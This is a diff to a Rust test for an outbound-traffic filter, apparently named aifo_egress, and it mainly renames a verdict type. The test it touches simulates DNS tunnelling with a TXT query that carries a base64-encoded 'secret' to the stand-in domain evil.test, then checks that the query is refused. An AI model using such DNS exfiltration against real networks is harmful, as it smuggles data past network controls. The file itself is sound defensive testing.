@@ -7,7 +7,7 @@ mod harness;
 use std::net::Ipv4Addr;
 use std::time::Duration;
 
-use aifo_egress::{AddressClass, ConnectionError, Limits, Phase, Verdict};
+use aifo_egress::{AddressClass, ConnectionError, Limits, NameVerdict, Phase};
 use harness::*;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
@@ -43,7 +43,7 @@ async fn dns_tunnel_in_txt_queries() {
     assert_eq!(world.ask("c2VjcmV0.evil.test", TXT).await, (3, Vec::new()));
     let event = world.event().await;
     assert_eq!((event.name.as_str(), event.port), ("c2vjcmv0.evil.test", None));
-    assert_eq!((event.verdict, event.error), (Verdict::Refused, Some(ConnectionError::NoRule)));
+    assert_eq!((event.verdict, event.error), (NameVerdict::Refused, Some(ConnectionError::NoRule)));
     // Also below permitted names, which are never looked up for a query.
     for name in ["c2VjcmV0.tls.test", "tls.test", "c2VjcmV0.wild.test", "_a._b.tls.test"] {
         assert_eq!(world.ask(name, TXT).await.1, [0; 0], "{name}");
